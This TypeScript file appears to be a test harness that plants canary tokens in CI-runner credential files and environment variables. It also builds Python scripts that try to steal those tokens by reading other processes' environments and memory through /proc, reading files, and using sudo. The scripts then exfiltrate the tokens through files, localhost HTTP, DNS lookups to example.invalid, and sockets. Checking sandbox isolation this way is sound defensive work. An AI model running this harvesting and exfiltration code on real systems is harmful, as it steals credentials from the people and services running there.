import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

/** Where a runner has secrets, and a token of our own in each of these places. */
export interface Secrets {
  /** By what it is called in a report. */
  tokens: Readonly<Record<string, string>>;
  /** The environment of the tool. */
  environment: Record<string, string>;
  files: readonly string[];
}

/** Files by path below a folder: who may read them, and what stands around the token. */
const files: Readonly<Record<string, [mode: number, text: (token: string) => string]>> = {
  "temp/_runner_file_commands/set_env_1": [0o644, (token) => `TOKEN=${token}\n`],
  "temp/_runner_file_commands/set_output_1": [0o644, (token) => `token=${token}\n`],
  "temp/_runner_file_commands/add_path_1": [0o644, (token) => `/opt/${token}\n`],
  "temp/_runner_file_commands/step_summary_1": [0o644, (token) => `${token}\n`],
  "temp/git-credentials-1.config": [0o644, extraHeader],
  "work/.git/config": [0o644, extraHeader],
  "home/.netrc": [0o600, (token) => `machine github.com login x password ${token}\n`],
  "home/.npmrc": [0o600, (token) => `//packages.example/:_authToken=${token}\n`],
  "home/.config/gh/hosts.yml": [0o600, (token) => `github.com: { oauth_token: ${token} }\n`],
  "run/left-behind.json": [0o644, (token) => JSON.stringify({ apiKey: token })],
  "cache/completions/left-behind.json": [0o644, (token) => JSON.stringify({ authorization: token })],
};

const variables: Readonly<Record<string, (token: string) => string>> = {
  OPENAI_API_KEY: (token) => token,
  LMR_API_KEY: (token) => token,
  LMR_API_KEYS: (token) => `models.example=${token}`,
  LMR_HEADERS: (token) => `X-Gate: ${token}`,
  LMR_JUDGE_API_KEY: (token) => token,
  GITHUB_TOKEN: (token) => token,
  ACTIONS_RUNTIME_TOKEN: (token) => token,
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: (token) => token,
};

function extraHeader(token: string): string {
  return `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${token}\n`;
}

/** What tokens look like, so that those who search know what to look for. */
export const pattern = "canary-[0-9a-z]+-[0-9]+";

export function plantSecrets(place: string): Secrets {
  const tokens: Record<string, string> = {};
  const makeToken = (name: string) => {
    tokens[name] = `canary-${Math.random().toString(36).slice(2)}-${Object.keys(tokens).length}`;
    return tokens[name];
  };
  for (const [path, [mode, text]] of Object.entries(files)) {
    const full = join(place, path);
    mkdirSync(dirname(full), { recursive: true });
    writeFileSync(full, text(makeToken(path)));
    chmodSync(full, mode);
  }
  chmodSync(join(place, "run"), 0o700);
  return {
    tokens,
    environment: {
      HOME: join(place, "home"),
      ...Object.fromEntries(Object.entries(variables).map(([name, text]) => [name, text(makeToken(name))])),
    },
    files: Object.keys(files).map((path) => join(place, path)),
  };
}

/** Ways to find secrets; each puts the bytes that it found through `keep`. */
const searches: Readonly<Record<string, string>> = {
  "own environment": `
    keep(repr(dict(os.environ)).encode())
    keep(subprocess.run("set; git config --list --show-origin; git config --system --list", shell=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout)`,
  "processes of others": `
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        keep(read(path))`,
  "memory of others": `
    for folder in glob.glob("/proc/[0-9]*"):
        for line in read(folder + "/maps").decode("latin-1").splitlines():
            if "[heap]" in line or "[stack]" in line:
                begin, end = [int(side, 16) for side in line.split()[0].split("-")]
                try:
                    with open(folder + "/mem", "rb", 0) as file:
                        file.seek(begin)
                        keep(file.read(min(end - begin, 1 << 24)))
                except (OSError, OverflowError, ValueError):
                    pass`,
  files: `
    for path in @FILES@:
        keep(read(path))
        for place in glob.glob("/proc/[0-9]*/root"):
            keep(read(place + path))`,
  "other programs": `
    for path in @FILES@:
        for command in (["sudo", "-n", "cat", path], ["sh", "-c", "exec cat < " + path], ["git", "config", "-f", path, "--list"]):
            try:
                keep(subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=5).stdout)
            except (OSError, subprocess.TimeoutExpired):
                pass`,
};

/** An answer for each way to search. What it finds it puts out by every way that there is. */
export function thieves(): { name: string; text: string }[] {
  return Object.entries(searches).map(([name, search]) => ({
    name,
    text: `import base64
import glob
import os
import re
import socket
import subprocess
import sys
import urllib.request


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def send(text):
    forms = [text, base64.b64encode(text.encode()).decode(), text[::-1]]
    for form in forms:
        print(form)
        print("::set-output name=loot::" + form, file=sys.stderr)
        for path in ["/tmp/loot", "/var/tmp/loot", "/dev/shm/loot", "@RUN@/loot", "@TEMP@/_runner_file_commands/set_env_1"]:
            attempt(lambda: open(path, "a").write(form))
        attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/" + forms[1].replace("/", "_"), timeout=1))
        attempt(lambda: socket.getaddrinfo(form[:40] + ".example.invalid", 80))
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@UDP@"))),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.53", 53)),
            (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
            (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@"),
            (socket.AF_UNIX, socket.SOCK_DGRAM, "@DATAGRAM@"),
        ):
            attempt(lambda: connected(family, kind, address).send(form.encode()))
        # A pair of datagram sockets is turned to another address.
        attempt(lambda: socket.socketpair(type=socket.SOCK_DGRAM)[0].sendto(form.encode(), "@DATAGRAM@"))


def connected(family, kind, address):
    one = socket.socket(family, kind)
    one.settimeout(1)
    one.connect(address)
    return one


def attempt(action):
    try:
        action()
    except Exception:
        pass


def search():
    found = set()

    def keep(data):
        found.update(token.decode() for token in re.findall(rb"${pattern}", data))
${search}
    return " ".join(sorted(found))


def summary(values):
    if not hasattr(summary, "loot"):
        summary.loot = search()
        send("alive " + summary.loot)
    if len(values) == 1:
        raise ValueError(summary.loot)
    return {"loot": summary.loot}
`,
  }));
}
